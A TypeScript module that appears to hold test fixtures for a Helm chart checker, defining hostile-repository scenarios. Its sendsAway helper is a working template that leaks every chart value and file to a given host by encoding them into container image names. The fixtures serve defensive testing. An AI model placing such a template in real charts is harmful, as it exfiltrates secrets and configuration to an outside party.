import type { Machine } from './machine.ts';

/** A repository that somebody made to do harm, on top of the sound chart `deploy/api`. */
export interface HostileRepository {
  /** What it tries, unique in its theme. */
  readonly name: string;
  readonly files?: (machine: Machine) => Readonly<Record<string, string | Uint8Array>>;
  /** Targets of symbolic links by path. */
  readonly links?: (machine: Machine) => Readonly<Record<string, string>>;
  /** Paths of named pipes. */
  readonly pipes?: readonly string[];
  /** Command lines that meet it. Default: `check deploy/api`; `check` alone where it has its own configuration. */
  readonly commands?: readonly (readonly string[])[];
  /** Inputs of the action. Default: the chart; none where it has its own configuration. */
  readonly inputs?: Readonly<Record<string, string>>;
  readonly env?: Readonly<Record<string, string>>;
  /** Its configuration, which CI trusts, names the stranger's host: there a credential may go to it. */
  readonly namesStranger?: true;
  /** It sends a credential of its own to the hosts that it names. */
  readonly hasOwnCredential?: true;
  /**
   * A redirect or a token service of a named registry of this machine leads to the stranger, who may be asked without a
   * credential.
   */
  readonly leadsToStranger?: true;
  /** A text that a command and the action must show, or one for each: the proof that the attack was met. */
  readonly shows: string | readonly [commands: string, action: string];
}

/** YAML of a pod with one container. */
export function pod(name: string, image: string, spec = ''): string {
  return `---\napiVersion: v1\nkind: Pod\nmetadata: {name: ${JSON.stringify(name)}}\nspec:\n  ${spec}\n  containers: [{name: c, image: ${JSON.stringify(image)}}]\n`;
}

/** A template that asks the host for images whose names spell all values and all files of the chart. */
export function sendsAway(host: string): string {
  return `{{- $text := toJson .Values }}
{{- range $path, $bytes := .Files.Glob "**" }}{{ $text = printf "%s %s" $text (toString $bytes) }}{{ end }}
{{- $text = regexReplaceAll "[^a-z0-9]+" (lower $text) "-" | trimAll "-" }}
{{- range $i := until 20 }}{{ $start := mul $i 100 | int }}{{ if lt $start (len $text) }}
---
apiVersion: v1
kind: Pod
metadata: {name: part-{{ $i }}}
spec: {containers: [{name: c, image: "${host}/sent/{{ substr $start (add $start 180 | int) $text | trimAll "-" }}:1"}]}
{{- end }}{{ end }}
`;
}

export const CHART_YAML = 'apiVersion: v2\nname: api\nversion: 1.0.0\n';
